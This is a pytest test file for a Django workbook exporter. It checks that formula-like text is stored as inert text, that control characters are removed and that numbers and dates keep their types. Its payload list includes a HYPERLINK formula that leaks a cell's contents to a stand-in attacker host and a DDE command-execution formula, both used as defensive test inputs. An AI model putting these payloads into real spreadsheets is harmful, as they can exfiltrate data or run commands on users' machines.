"""core.xlsx: the one writer of every exported workbook.

Text that a spreadsheet would take for a formula comes back as text, control
characters are removed instead of breaking the file, and numbers and dates
stay numbers and dates.
"""

from datetime import date, datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.utils.translation import gettext_lazy
from openpyxl import load_workbook

from core.xlsx import Sheet, clean_text, looks_like_formula, workbook_bytes, workbook_file

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&B2,"点击")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-2+3",
    "@SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]


def _read(content: bytes, title: str = "表"):
    return load_workbook(BytesIO(content))[title]


@pytest.mark.parametrize("value", FORMULAS)
def test_text_that_looks_like_a_formula_comes_back_as_text(value):
    sheet = _read(workbook_bytes([Sheet("表", ["名称"], [[value]])]))
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # XML reads a carriage return as a line feed
    assert cell.quotePrefix  # Excel keeps it text when the cell is edited


def test_ordinary_text_is_left_alone():
    sheet = _read(workbook_bytes([Sheet("表", ["名称"], [["雷山县永乐酒店"], ["a-b"], ["1+1"]])]))
    assert [sheet[f"A{row}"].value for row in (2, 3, 4)] == ["雷山县永乐酒店", "a-b", "1+1"]
    assert not any(sheet[f"A{row}"].quotePrefix for row in (2, 3, 4))


def test_control_characters_are_removed_without_breaking_the_export():
    value = "a\u0001\u0007\u001b[31mb"
    sheet = _read(workbook_bytes([Sheet("表", ["说明\u0000"], [[value, "第一行\n第二行\t完"]])]))
    assert sheet["A1"].value == "说明"
    assert sheet["A2"].value == "a[31mb"
    assert sheet["B2"].value == "第一行\n第二行\t完"


def test_numbers_dates_and_empty_cells_keep_their_type():
    aware = datetime(2026, 11, 22, 4, 30, tzinfo=ZoneInfo("UTC"))
    row = [-2, -0.5, 3, date(2026, 11, 22), aware, None]
    sheet = _read(workbook_bytes([Sheet("表", list("ABCDEF"), [row])]))
    cells = [sheet.cell(row=2, column=n) for n in range(1, 7)]
    assert [c.value for c in cells[:3]] == [-2, -0.5, 3]
    assert all(c.data_type == "n" for c in cells[:3])
    assert cells[3].value == datetime(2026, 11, 22)
    # Asia/Shanghai, without a time zone: Excel has none.
    assert cells[4].value == datetime(2026, 11, 22, 12, 30)
    assert cells[4].number_format == "yyyy-mm-dd hh:mm"
    assert cells[5].value is None


def test_the_header_is_bold_and_every_sheet_is_written_in_order():
    content = workbook_bytes(
        [Sheet("指标", [gettext_lazy("指标"), "数值"], [["新增工单", 8]]), Sheet("空表", ["说明"], [])]
    )
    book = load_workbook(BytesIO(content))
    assert book.sheetnames == ["指标", "空表"]
    assert [c.value for c in book["指标"][1]] == ["指标", "数值"]
    assert all(c.font.b for c in book["指标"][1])
    assert not book["指标"]["A2"].font.b


def test_text_format_and_column_width():
    content = workbook_bytes(
        [Sheet("表", ["户号", "名称"], [["0521", "-"]], column_width=16, text_format=True)]
    )
    sheet = _read(content)
    assert sheet.column_dimensions["A"].width == sheet.column_dimensions["B"].width == 16
    assert sheet["A2"].number_format == "@" and sheet["A2"].value == "0521"
    assert sheet["B2"].data_type == "s" and sheet["B2"].value == "-"


def test_a_large_workbook_goes_through_a_rewound_file():
    rows = ([n, f"客户{n}", "=1" if n == 5 else ""] for n in range(1000))
    with workbook_file([Sheet("表", ["序号", "名称", "备注"], rows)]) as spool:
        sheet = _read(spool.read())
    assert sheet.max_row == 1001
    assert sheet["C7"].data_type == "s" and sheet["C7"].value == "=1"


def test_the_sanitizer_on_its_own():
    assert clean_text("a\x00b\x7fc\x85d\ufffe") == "abcd"
    assert looks_like_formula(" \u3000=1")
    assert not looks_like_formula("客户-1")
